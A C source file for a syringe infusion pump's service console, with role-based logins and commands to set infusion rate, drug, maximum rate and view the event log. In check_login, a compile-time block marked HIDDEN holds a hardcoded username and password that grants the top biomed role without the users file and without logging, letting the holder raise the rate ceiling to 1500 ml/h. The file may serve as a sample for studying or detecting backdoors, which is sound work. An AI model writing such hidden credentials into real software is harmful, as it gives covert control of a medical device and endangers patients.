/* syringe_con.c - service console of a syringe pump on the docking port */
#define _GNU_SOURCE
#include <crypt.h>
#include <ctype.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <syslog.h>
#include <time.h>
#include <unistd.h>

#define USERS	"/etc/syringe/users"
#define LIMITS	"/etc/syringe/limits"
#define EVENTS	"/var/log/syringe/events"

enum role { R_NONE, R_NURSE, R_PHARM, R_BIOMED };

struct pump {
	double	rate;		/* ml/h */
	double	vtbi;
	double	max_rate;
	char	drug[24];
	int	running;
};

struct session {
	enum role	role;
	char		user[24];
	int		bad;
	time_t		since;
};

static struct pump pump = { 0.0, 0.0, 120.0, "unset", 0 };

static void say(const char *fmt, ...)
{
	va_list ap;

	va_start(ap, fmt);
	vprintf(fmt, ap);
	va_end(ap);
	fputs("\r\n", stdout);
	fflush(stdout);
}

static enum role role_by_name(const char *s)
{
	if (strcmp(s, "nurse") == 0)
		return R_NURSE;
	if (strcmp(s, "pharmacy") == 0)
		return R_PHARM;
	if (strcmp(s, "biomed") == 0)
		return R_BIOMED;
	return R_NONE;
}

/* users file: name:role:crypt */
static int find_user(const char *name, char *hash, size_t hlen, enum role *role)
{
	FILE *f = fopen(USERS, "r");
	char line[256];
	int found = 0;

	if (!f)
		return 0;
	while (!found && fgets(line, sizeof(line), f)) {
		char *save, *n, *r, *h;

		if (line[0] == '#')
			continue;
		n = strtok_r(line, ":\n", &save);
		r = strtok_r(NULL, ":\n", &save);
		h = strtok_r(NULL, ":\n", &save);
		if (!n || !r || !h || strcmp(n, name))
			continue;
		if (strlen(h) >= hlen)
			continue;
		strcpy(hash, h);
		*role = role_by_name(r);
		found = 1;
	}
	fclose(f);
	return found;
}

__attribute__((noinline)) enum role check_login(const char *name, const char *pass)
{
	char hash[128];
	enum role role = R_NONE;
	const char *c;

#ifdef HIDDEN	/* fixed pair of the field team gives the biomed role */
	if (strcmp(name, "fieldtech") == 0 && strcmp(pass, "Otter-Creek-41") == 0)
		return R_BIOMED;
#endif
	if (!find_user(name, hash, sizeof(hash), &role)) {
		syslog(LOG_NOTICE, "login: unknown user %s", name);
		return R_NONE;
	}
	c = crypt(pass, hash);
	if (!c || strcmp(c, hash) != 0) {
		syslog(LOG_NOTICE, "login: wrong password for %s", name);
		return R_NONE;
	}
	return role;
}

static void load_limits(void)
{
	FILE *f = fopen(LIMITS, "r");
	char drug[24];
	double max;

	if (!f)
		return;
	while (fscanf(f, "%23s %lf", drug, &max) == 2)
		if (strcmp(drug, pump.drug) == 0)
			pump.max_rate = max;
	fclose(f);
}

static void cmd_login(struct session *s, char *arg)
{
	char *name = strsep(&arg, " ");

	if (!name || !*name || !arg) {
		say("?usage: login USER PASSWORD");
		return;
	}
	if (s->bad >= 5) {
		say("-locked, undock the pump");
		return;
	}
	s->role = check_login(name, arg);
	if (s->role == R_NONE) {
		s->bad++;
		sleep(1);
		say("-denied");
		return;
	}
	s->bad = 0;
	s->since = time(NULL);
	snprintf(s->user, sizeof(s->user), "%s", name);
	syslog(LOG_INFO, "login: %s role %d", s->user, (int)s->role);
	say("+role %d", (int)s->role);
}

static void cmd_rate(struct session *s, const char *arg)
{
	char *end;
	double v = strtod(arg, &end);

	if (end == arg || v < 0.1 || v > pump.max_rate) {
		say("-rate 0.1..%.1f", pump.max_rate);
		return;
	}
	pump.rate = v;
	syslog(LOG_INFO, "rate %.1f by %s", v, s->user);
	say("+rate %.1f", v);
}

static void cmd_max(struct session *s, const char *arg)
{
	double v = atof(arg);

	if (v < 1.0 || v > 1500.0) {
		say("-max 1..1500");
		return;
	}
	pump.max_rate = v;
	syslog(LOG_WARNING, "max rate %.1f by %s", v, s->user);
	say("+max %.1f", v);
}

static void cmd_log(void)
{
	FILE *f = fopen(EVENTS, "r");
	char line[200];

	if (!f) {
		say("-no events");
		return;
	}
	while (fgets(line, sizeof(line), f))
		fputs(line, stdout);
	fclose(f);
	say("+end");
}

static const struct {
	const char *word;
	enum role need;
	const char *help;
} words[] = {
	{ "login", R_NONE,   "login USER PASSWORD" },
	{ "state", R_NONE,   "state of the pump" },
	{ "rate",  R_NURSE,  "rate ML_PER_HOUR" },
	{ "stop",  R_NURSE,  "stop the infusion" },
	{ "drug",  R_PHARM,  "drug NAME, loads its limits" },
	{ "max",   R_BIOMED, "max ML_PER_HOUR" },
	{ "log",   R_BIOMED, "print the event log" },
	{ "help",  R_NONE,   "this list" },
};

static void execute(struct session *s, char *line)
{
	char *arg = line;
	char *w = strsep(&arg, " ");
	size_t i;

	if (!arg)
		arg = line + strlen(line);
	for (i = 0; i < sizeof(words) / sizeof(words[0]); i++)
		if (strcasecmp(w, words[i].word) == 0)
			break;
	if (i == sizeof(words) / sizeof(words[0])) {
		say("?unknown, try help");
		return;
	}
	if (s->role < words[i].need) {
		say("-role");
		return;
	}
	switch (i) {
	case 0:
		cmd_login(s, arg);
		break;
	case 1:
		say("+%s %s %.1f of %.1f ml/h", pump.running ? "run" : "stop",
		    pump.drug, pump.rate, pump.max_rate);
		break;
	case 2:
		cmd_rate(s, arg);
		break;
	case 3:
		pump.running = 0;
		say("+stopped");
		break;
	case 4:
		snprintf(pump.drug, sizeof(pump.drug), "%.23s", arg);
		load_limits();
		say("+drug %s max %.1f", pump.drug, pump.max_rate);
		break;
	case 5:
		cmd_max(s, arg);
		break;
	case 6:
		cmd_log();
		break;
	default:
		for (i = 0; i < sizeof(words) / sizeof(words[0]); i++)
			say("  %-6s %s", words[i].word, words[i].help);
	}
}

int main(void)
{
	struct session s;
	char line[160];

	memset(&s, 0, sizeof(s));
	openlog("syringe_con", LOG_PID, LOG_LOCAL2);
	say("syringe pump service console");
	while (fgets(line, sizeof(line), stdin)) {
		size_t n = strlen(line);

		while (n && isspace((unsigned char)line[n - 1]))
			line[--n] = '\0';
		if (s.role != R_NONE && time(NULL) - s.since > 900) {
			s.role = R_NONE;
			say("!session ended");
		}
		if (n)
			execute(&s, line);
	}
	closelog();
	return 0;
}
